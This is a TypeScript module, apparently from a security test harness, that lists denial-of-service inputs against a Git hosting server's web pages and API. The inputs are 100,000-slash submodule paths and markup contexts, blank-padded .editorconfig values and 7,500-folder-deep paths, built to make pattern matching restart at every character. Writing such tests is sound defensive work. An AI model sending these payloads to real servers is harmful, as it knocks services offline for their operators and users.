import { type Attack, commitFiles } from "../attack.ts";

const SLASHES = "/".repeat(100_000);

/** Texts that made a pattern begin again at each of their characters. */
export const patternAttacks: readonly Attack[] = [
  {
    name: "a .gitmodules whose path is 100,000 slashes, and an .editorconfig of blanks",
    prepare: (target) =>
      commitFiles(target, {
        "modules/.gitmodules": `[submodule "a"]\n\tpath = x${SLASHES}y\n\turl = https://example.org/\n`,
        ".gitmodules": `[submodule "a"]\n\tpath = x${SLASHES}y\n\turl = https://example.org/\n`,
        ".editorconfig": `root = true\n[*]\nindent_size${" ".repeat(50_000)}x\ncharset = ${" ".repeat(50_000)}x\n`,
      }),
    run: async ({ ask, stranger }) => {
      for (const path of ["", "/src/branch/main", "/src/branch/main/modules"]) await ask(stranger.repo + path);
      await ask(`/api/v1/repos${stranger.repo}/contents`);
      await ask(`/api/v1/repos${stranger.repo}/editorconfig/a.txt`);
    },
  },
  {
    name: "a context of /markup that is 100,000 slashes",
    run: async ({ ask, stranger }) => {
      await ask("/api/v1/markup", {
        body: JSON.stringify({ Text: "x", Mode: "gfm", Context: `a${SLASHES}b` }),
        headers: { "content-type": "application/json" },
        token: stranger.token,
      });
    },
  },
  {
    name: "commits of a path of 7,500 folders, and its pages",
    run: async ({ ask, stranger }) => {
      const path = "a/".repeat(7_500);
      for (const address of [
        `/api/v1/repos${stranger.repo}/commits?path=${path}`,
        `/api/v1/repos${stranger.repo}/contents/${path}`,
        `${stranger.repo}/commits/branch/main/${path}`,
        `${stranger.repo}/src/branch/main/${path}`,
        `${stranger.repo}/raw/branch/main/${path}`,
        `${stranger.repo}/src/${path}`,
      ])
        await ask(address);
    },
  },
];
